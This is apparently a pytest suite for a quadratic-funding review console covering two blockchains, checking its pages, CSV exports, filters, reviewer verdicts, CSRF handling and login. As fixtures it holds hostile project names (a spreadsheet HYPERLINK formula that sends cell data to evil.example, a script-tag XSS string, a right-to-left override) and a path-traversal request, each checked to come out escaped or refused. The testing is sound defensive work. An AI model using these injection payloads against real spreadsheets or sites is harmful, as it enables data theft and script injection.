"""The console with two chains indexed and no QF_CHAIN_ID: every page covers both, with a chain column.

The database is the two-chain round of :mod:`tests.matching.test_rounds` (pool 1
on chain 31337, pool 7 on chain 10, one named round over both, USD prices
imported), written as event rows with a writer per chain, plus what the
console reads besides: the chains' checkpoints, hostile project names on each
chain, batch scores and sidecar decisions on both chains. Real PostgreSQL, the
real application over HTTP (Starlette's TestClient), the real matching service.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import psycopg
import pytest
from starlette.testclient import TestClient

from qf_sentinel.console.app import create_app
from qf_sentinel.console.comparison import METHODS
from qf_sentinel.console.config import ConsoleConfig
from qf_sentinel.console.display import chain_text
from qf_sentinel.console.filters import num
from qf_sentinel.qf.db import connect
from qf_sentinel.qf.matching.rounds import add_round
from qf_sentinel.qf.matching.service import match_round
from tests.console.conftest import REVIEWER_TOKEN, SESSION_SECRET, VIEWER_TOKEN
from tests.console.helpers import csrf_of, login
from tests.matching.test_rounds import ALICE, BOB, CAROL, CHAIN_A, CHAIN_B, DAVE, FRANK, POOL_A, POOL_B, P, Q, R
from tests.matching.test_rounds import write_round as write_two_pools

ROUND = "gg-two"
#: Names their owners wrote on chain: a formula for spreadsheets, markup, a right-to-left override.
P_NAME = '=HYPERLINK("http://evil.example/?"&A1)<b>P</b>'
R_NAME = "<script>alert(1)</script>\u202eR"
REGISTRY = bytes.fromhex("77" * 20)


@dataclass(frozen=True)
class TwoChains:
    db_url: str
    models_dir: Path

    def config(self, **changes: object) -> ConsoleConfig:
        base: dict[str, object] = {
            "database_url": self.db_url, "models_dir": self.models_dir, "reviewers": {"alice": REVIEWER_TOKEN},
            "viewers": {"bob": VIEWER_TOKEN}, "session_secret": SESSION_SECRET,
        }  # fmt: skip
        return ConsoleConfig(**(base | changes))  # type: ignore[arg-type]


def _name(conn: psycopg.Connection, chain_id: int, recipient: bytes, name: str) -> None:
    profile = recipient.rjust(32, b"\0")
    conn.execute("INSERT INTO qf.profiles (chain_id, registry, profile_id, name, anchor, updated_block) "
                 "VALUES (%s, %s, %s, %s, %s, 1)", (chain_id, REGISTRY, profile, name, recipient))  # fmt: skip
    conn.execute("INSERT INTO qf.profile_anchors (chain_id, anchor, registry, profile_id, current) "
                 "VALUES (%s, %s, %s, %s, true)", (chain_id, recipient, REGISTRY, profile))  # fmt: skip


def _risk(conn: psycopg.Connection, chain_id: int, pool_id: int, donor: bytes, score: float, decision: str) -> None:
    conn.execute(
        "INSERT INTO qf.donor_risk (chain_id, pool_id, donor, model_version, score, level, decision, reasons, weight) "
        "VALUES (%s, %s, %s, 'v1', %s, %s, %s, ARRAY['test reason'], %s)",
        (chain_id, pool_id, donor, score, {"APPROVE": "LOW", "REVIEW": "MEDIUM", "BLOCK": "HIGH"}[decision], decision,
         1.0 - score),
    )  # fmt: skip


def _decision(conn: psycopg.Connection, chain_id: int, pool_id: int, donor: bytes, decision: str) -> None:
    conn.execute(
        "INSERT INTO qf.scorer_decisions (decision_id, created_at, client, method, chain_id, donor, pool_id, "
        "risk_score, level, decision, reasons, model_version, latency_ms) "
        "VALUES (%s, now(), 'dapp', 'ScoreContribution', %s, %s, %s, 0.7, 'HIGH', %s, '[]', 'v1', 1.0)",
        (uuid.uuid4(), chain_id, donor, pool_id, decision),
    )


@pytest.fixture
def two_chains(migrated_db_url: str, tmp_path: Path) -> TwoChains:
    with connect(migrated_db_url) as conn:
        write_two_pools(conn)
        add_round(conn, ROUND, [(CHAIN_A, POOL_A), (CHAIN_B, POOL_B)])
        for chain_id in (CHAIN_A, CHAIN_B):
            conn.execute("INSERT INTO qf.chains (chain_id, core, start_block, checkpoint_block) "
                         "VALUES (%s, %s, 0, 500)", (chain_id, bytes.fromhex("c0" * 20)))  # fmt: skip
        _name(conn, CHAIN_A, P, P_NAME)
        _name(conn, CHAIN_B, R, R_NAME)
        _risk(conn, CHAIN_A, POOL_A, ALICE, 0.5, "REVIEW")
        _risk(conn, CHAIN_A, POOL_A, BOB, 0.1, "APPROVE")
        _risk(conn, CHAIN_B, POOL_B, CAROL, 0.9, "BLOCK")
        _risk(conn, CHAIN_B, POOL_B, ALICE, 0.05, "APPROVE")
        _decision(conn, CHAIN_A, POOL_A, ALICE, "REVIEW")
        _decision(conn, CHAIN_B, POOL_B, CAROL, "BLOCK")
        _decision(conn, CHAIN_B, POOL_B, DAVE, "REVIEW")
        _decision(conn, CHAIN_B, POOL_B, FRANK, "REVIEW")
        conn.commit()
    return TwoChains(migrated_db_url, tmp_path / "models")


@pytest.fixture
def viewer(two_chains: TwoChains) -> Iterator[TestClient]:
    with TestClient(create_app(two_chains.config()), follow_redirects=False) as client:
        login(client, VIEWER_TOKEN)
        yield client


def _hex(a: bytes) -> str:
    return "0x" + a.hex()


def _rows(html: str, tag: str) -> list[str]:
    """The table rows of a page whose opening tag starts with ``tag`` (each up to its ``</tr>``)."""
    return [tag + part.split("</tr>")[0] for part in html.split(tag)[1:]]


def test_the_rounds_index_lists_both_chains_and_the_named_round(viewer: TestClient) -> None:
    page = viewer.get("/")
    assert page.status_code == 200, page.text
    assert "Which chain?" not in page.text
    pools = _rows(page.text, '<tr class="pool"')
    assert [re.search(r'data-chain="(\d+)"', r)[1] for r in pools] == [str(CHAIN_B), str(CHAIN_A)]  # type: ignore[index]
    assert "10 Optimism" in pools[0]
    assert f'href="/chains/{CHAIN_B}/rounds/{POOL_B}"' in pools[0]
    assert "31337 devnet" in pools[1]
    assert f'href="/chains/{CHAIN_A}/rounds/{POOL_A}"' in pools[1]
    assert "Chain 31337 devnet: last block indexed <strong>500</strong>" in page.text
    assert "Chain 10 Optimism: last block indexed <strong>500</strong>" in page.text
    named = _rows(page.text.split('<table class="named">')[1], "<tr>\n")
    assert len(named) == 1
    assert f'href="/named/{ROUND}"' in named[0]
    assert re.findall(r'<td class="n">(\d+)</td>', named[0]) == ["2", "2"], "two pools on two chains"


def test_a_named_round_page_shows_match_round_with_each_projects_chains(viewer: TestClient,
                                                                        two_chains: TwoChains) -> None:  # fmt: skip
    with connect(two_chains.db_url) as conn:
        result = match_round(conn, ROUND, methods=METHODS)
    page = viewer.get(f"/named/{ROUND}")
    assert page.status_code == 200, page.text
    rows = {re.search(r'data-recipient="(0x[0-9a-f]+)"', r)[1]: r for r in _rows(page.text, '<tr class="project"')}  # type: ignore[index]
    projects = result.projects()
    assert set(rows) == {_hex(p.recipient_id) for p in projects} == {_hex(P), _hex(Q), _hex(R)}
    for p in projects:
        row = rows[_hex(p.recipient_id)]
        cells = re.findall(r'<td class="n[^"]*">([^<]*)</td>', row)
        expected = [str(p.donors), num(p.amount), num(p.matches["standard"]), num(p.matches["cocm"]),
                    num(p.matches["cocm"] - p.matches["standard"]), num(p.matches["risk-adjusted"]),
                    num(p.matches["risk-adjusted"] - p.matches["standard"])]  # fmt: skip
        assert cells == expected, _hex(p.recipient_id)
    assert "31337 devnet" in rows[_hex(P)], "P is given on both chains"
    assert "10 Optimism" in rows[_hex(P)]
    assert "31337 devnet" in rows[_hex(Q)]
    assert "10 Optimism" not in rows[_hex(Q)]
    assert "10 Optimism" in rows[_hex(R)]
    assert "31337 devnet" not in rows[_hex(R)]
    assert f"{num(result.pool_amount)} USD" in page.text
    # Hostile names: escaped and isolated as everywhere else, inert in the chart's figure JSON.
    assert str(chain_text(P_NAME)) in rows[_hex(P)]
    assert str(chain_text(R_NAME)) in rows[_hex(R)]
    assert "<script>alert" not in page.text
    assert "<b>P</b>" not in page.text
    figure = page.text.split('<script type="application/json" id="gains">')[1].split("</script>")[0]
    assert "<" not in figure, "the figure JSON is script-safe"
    unescaped = figure.replace("\\u003c", "<").replace("\\u003e", ">").replace("\\u0026", "&")
    assert "&lt;script&gt;" in unescaped, "the label is escaped for Plotly"
    for pool in (f"/chains/{CHAIN_A}/rounds/{POOL_A}", f"/chains/{CHAIN_B}/rounds/{POOL_B}"):
        assert f'href="{pool}"' in page.text


def test_the_named_rounds_csv_equals_match_round_and_is_spreadsheet_safe(viewer: TestClient,
                                                                         two_chains: TwoChains) -> None:  # fmt: skip
    with connect(two_chains.db_url) as conn:
        result = match_round(conn, ROUND, methods=METHODS)
    response = viewer.get(f"/named/{ROUND}/matching.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert f'filename="round-{ROUND}-matching-usd.csv"' in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    by_id = {r["recipient_id"]: r for r in rows}
    for p in result.projects():
        row = by_id[_hex(p.recipient_id)]
        assert int(row["donors"]) == p.donors
        assert float(row["amount_usd"]) == pytest.approx(p.amount, abs=1e-6)
        for method in METHODS:
            assert float(row["match_" + method.replace("-", "_")]) == pytest.approx(p.matches[method], abs=1e-6)
    assert by_id[_hex(P)]["chain_ids"] == f"{CHAIN_B} {CHAIN_A}", "chain ids ascending"
    assert by_id[_hex(R)]["chain_ids"] == str(CHAIN_B)
    assert by_id[_hex(P)]["project"] == "'" + P_NAME, "a formula is quoted as text"
    assert sum(float(r["match_standard"]) for r in rows) == pytest.approx(result.pool_amount, rel=1e-6)


def test_pool_pages_are_per_chain_and_the_old_url_names_the_chains(viewer: TestClient) -> None:
    for chain_id, pool_id in ((CHAIN_A, POOL_A), (CHAIN_B, POOL_B)):
        page = viewer.get(f"/chains/{chain_id}/rounds/{pool_id}")
        assert page.status_code == 200, page.text
        assert "standard QF" in page.text
        assert viewer.get(f"/chains/{chain_id}/rounds/{pool_id}/matching.csv").status_code == 200
    assert viewer.get(f"/chains/{CHAIN_B}/rounds/{POOL_A}").status_code == 404
    assert viewer.get(f"/chains/5/rounds/{POOL_A}").status_code == 404
    ambiguous = viewer.get(f"/rounds/{POOL_A}")
    assert ambiguous.status_code == 300
    assert "Which chain?" in ambiguous.text
    assert "31337 devnet" in ambiguous.text, "both indexed chains are named"
    assert "10 Optimism" in ambiguous.text
    assert f'href="/chains/{CHAIN_A}/rounds/{POOL_A}"' in ambiguous.text
    assert f'href="/chains/{CHAIN_B}/rounds/{POOL_A}"' not in ambiguous.text, "pool 1 is only on chain 31337"
    csv_choice = viewer.get(f"/rounds/{POOL_B}/matching.csv?usd=1")
    assert csv_choice.status_code == 300
    assert f'href="/chains/{CHAIN_B}/rounds/{POOL_B}/matching.csv?usd=1"' in csv_choice.text
    missing = viewer.get("/rounds/99")
    assert missing.status_code == 404
    assert "not indexed on any of the chains" in missing.text
    assert viewer.get("/named/no-such-round").status_code == 404
    assert viewer.get("/named/..%2Fx").status_code == 404


def test_qf_chain_id_still_restricts_the_console_to_one_chain(two_chains: TwoChains) -> None:
    with TestClient(create_app(two_chains.config(chain_id=CHAIN_B)), follow_redirects=False) as client:
        login(client, VIEWER_TOKEN)
        index = client.get("/")
        assert index.status_code == 200
        pools = _rows(index.text, '<tr class="pool"')
        assert len(pools) == 1
        assert f'href="/rounds/{POOL_B}"' in pools[0], "one chain: the short pool URL"
        assert f'href="/named/{ROUND}"' not in index.text, "the named round spans a chain not shown"
        assert client.get(f"/rounds/{POOL_B}").status_code == 200
        assert client.get(f"/rounds/{POOL_B}/matching.csv").status_code == 200
        assert client.get(f"/chains/{CHAIN_B}/rounds/{POOL_B}").status_code == 200
        assert client.get(f"/chains/{CHAIN_A}/rounds/{POOL_A}").status_code == 404
        assert client.get(f"/named/{ROUND}").status_code == 404
        donors = client.get("/donors").text
        assert {re.search(r'data-chain="(\d+)"', r)[1] for r in _rows(donors, '<tr class="donor"')} == {str(CHAIN_B)}  # type: ignore[index]
        assert client.get(f"/donors?chain={CHAIN_A}").status_code == 400


def test_flagged_donors_cover_both_chains_and_filter_by_chain(viewer: TestClient) -> None:
    def shown(path: str) -> set[tuple[str, str]]:
        page = viewer.get(path)
        assert page.status_code == 200, page.text
        rows = _rows(page.text, '<tr class="donor"')
        return {(re.search(r'href="/donors/(0x[0-9a-f]+)"', r)[1], re.search(r'data-chain="(\d+)"', r)[1])  # type: ignore[index]
                for r in rows}  # fmt: skip

    every = {(_hex(ALICE), str(CHAIN_A)), (_hex(BOB), str(CHAIN_A)), (_hex(CAROL), str(CHAIN_B)),
             (_hex(ALICE), str(CHAIN_B))}  # fmt: skip
    assert shown("/donors") == every
    assert shown(f"/donors?chain={CHAIN_B}") == {d for d in every if d[1] == str(CHAIN_B)}
    assert shown(f"/donors?pool={CHAIN_A}:{POOL_A}") == {d for d in every if d[1] == str(CHAIN_A)}
    assert shown("/donors?decision=BLOCK") == {(_hex(CAROL), str(CHAIN_B))}
    page = viewer.get("/donors").text
    assert f'<option value="{CHAIN_B}:{POOL_B}"' in page
    assert f'<option value="{CHAIN_A}"' in page
    for bad in ("/donors?chain=5", "/donors?chain=x", f"/donors?chain={CHAIN_A}&pool={CHAIN_B}:{POOL_B}"):
        assert viewer.get(bad).status_code == 400, bad


def test_the_review_queue_covers_both_chains_and_filters_by_chain(viewer: TestClient) -> None:
    page = viewer.get("/review")
    assert page.status_code == 200
    queued = {(re.search(r'data-donor="(0x[0-9a-f]+)"', r)[1], re.search(r'data-chain="(\d+)"', r)[1])  # type: ignore[index]
              for r in _rows(page.text, "<tr data-donor=")}  # fmt: skip
    assert queued == {(_hex(ALICE), str(CHAIN_A)), (_hex(CAROL), str(CHAIN_B)), (_hex(DAVE), str(CHAIN_B)),
                      (_hex(FRANK), str(CHAIN_B))}  # fmt: skip
    assert "Pending (4)" in page.text
    only_b = viewer.get(f"/review?chain={CHAIN_B}")
    assert "Pending (3)" in only_b.text
    assert len(_rows(only_b.text, "<tr data-donor=")) == 3
    assert f'href="/review?status=all&amp;chain={CHAIN_B}"' in only_b.text, "the tabs keep the filter"
    assert viewer.get("/review?chain=5").status_code == 400


def test_a_donors_page_shows_its_activity_on_every_chain(viewer: TestClient) -> None:
    page = viewer.get(f"/donors/{_hex(ALICE)}")
    assert page.status_code == 200, page.text
    activity = _rows(page.text.split('<table class="activity">')[1].split("</table>")[0], "<tr data-chain=")
    assert [re.search(r'"(\d+)"', r)[1] for r in activity] == [str(CHAIN_B), str(CHAIN_A)]  # type: ignore[index]
    counts = {re.search(r'"(\d+)"', r)[1]: re.findall(r'<td class="n">([^<]*)</td>', r)[0] for r in activity}  # type: ignore[index]
    assert counts == {str(CHAIN_A): "2", str(CHAIN_B): "2"}, "alice gave twice on each chain"
    assert f'id="chain-{CHAIN_A}"' in page.text
    assert f'id="chain-{CHAIN_B}"' in page.text
    one = viewer.get(f"/donors/{_hex(ALICE)}?chain={CHAIN_B}")
    assert f'id="chain-{CHAIN_B}"' in one.text
    assert f'id="chain-{CHAIN_A}"' not in one.text
    assert viewer.get(f"/donors/{_hex(FRANK)}?chain={CHAIN_A}").status_code == 404


def _form(html: str, donor: bytes, chain_id: int) -> dict[str, str]:
    """The hidden fields of the review form of ``donor`` on ``chain_id``, as the queue serves it."""
    row = next(r for r in _rows(html, "<tr data-donor=") if f'"{_hex(donor)}" data-chain="{chain_id}"' in r)
    return dict(re.findall(r'<input type="hidden" name="([a-z_]+)" value="([^"]*)">', row))


def _log(db_url: str) -> list[tuple[int, bytes, str]]:
    with connect(db_url) as conn:
        return [(int(c), bytes(d), v) for c, d, v in conn.execute(
            "SELECT chain_id, donor, verdict FROM qf.review_log ORDER BY id").fetchall()]  # fmt: skip


def test_a_verdict_records_the_chain_it_concerns(two_chains: TwoChains) -> None:
    with TestClient(create_app(two_chains.config()), follow_redirects=False) as client:
        login(client, REVIEWER_TOKEN)
        queue = client.get(f"/review?chain={CHAIN_B}").text
        form = _form(queue, CAROL, CHAIN_B)
        assert form["chain"] == str(CHAIN_B)
        submitted = form | {"verdict": "sybil", "comment": "farm", "back": f"/review?chain={CHAIN_B}"}
        done = client.post("/review", data=submitted)
        assert done.status_code == 303, done.text
        assert done.headers["location"] == f"/review?chain={CHAIN_B}"
        assert _log(two_chains.db_url) == [(CHAIN_B, CAROL, "sybil")]
        with connect(two_chains.db_url) as conn:
            labels = conn.execute("SELECT chain_id, is_sybil, source FROM qf.labels WHERE address = %s",
                                  (CAROL,)).fetchall()  # fmt: skip
        assert labels == [(CHAIN_B, True, "alice")]
        # The same form again: stale (the verdict it saw as current is no longer), nothing recorded.
        again = client.post("/review", data=submitted | {"csrf_token": csrf_of(client.get("/review").text)})
        assert again.status_code == 409
        assert "already reviewed" in again.text
        # A verdict about a chain the donor never used, a form naming no chain, a forged CSRF token: refused.
        frank = _form(client.get("/review").text, FRANK, CHAIN_B)
        wrong_chain = client.post("/review", data=frank | {"chain": str(CHAIN_A), "decision_id": "",
                                                           "verdict": "honest"})  # fmt: skip
        assert wrong_chain.status_code == 400
        assert f"is not a donor of chain {CHAIN_A}" in wrong_chain.text
        no_chain = client.post("/review", data={k: v for k, v in frank.items() if k != "chain"} | {"verdict": "honest"})
        assert no_chain.status_code == 503
        assert "2 chains are indexed" in no_chain.text
        forged = client.post("/review", data=frank | {"csrf_token": "forged", "verdict": "honest"})
        assert forged.status_code == 400
        assert client.post("/review", data=frank | {"chain": "5", "verdict": "honest"}).status_code == 400
        assert client.post("/review", data=frank | {"chain": "ten", "verdict": "honest"}).status_code == 400
        assert _log(two_chains.db_url) == [(CHAIN_B, CAROL, "sybil")]
        # The donor's page answers on its own chain.
        page = client.get(f"/donors/{_hex(FRANK)}").text
        assert 'name="chain" value="10"' in page
        ok = client.post("/review", data=frank | {"verdict": "honest"})
        assert ok.status_code == 303
        assert _log(two_chains.db_url)[-1] == (CHAIN_B, FRANK, "honest")


def test_the_new_pages_need_a_login(two_chains: TwoChains) -> None:
    with TestClient(create_app(two_chains.config()), follow_redirects=False) as client:
        for path in (f"/named/{ROUND}", f"/named/{ROUND}/matching.csv", f"/chains/{CHAIN_B}/rounds/{POOL_B}",
                     f"/chains/{CHAIN_B}/rounds/{POOL_B}/matching.csv", f"/donors?chain={CHAIN_B}",
                     f"/review?chain={CHAIN_B}", f"/rounds/{POOL_A}"):  # fmt: skip
            response = client.get(path)
            assert response.status_code == 303, path
            assert response.headers["location"].startswith("/login?next=/"), path
            assert "content-security-policy" in response.headers
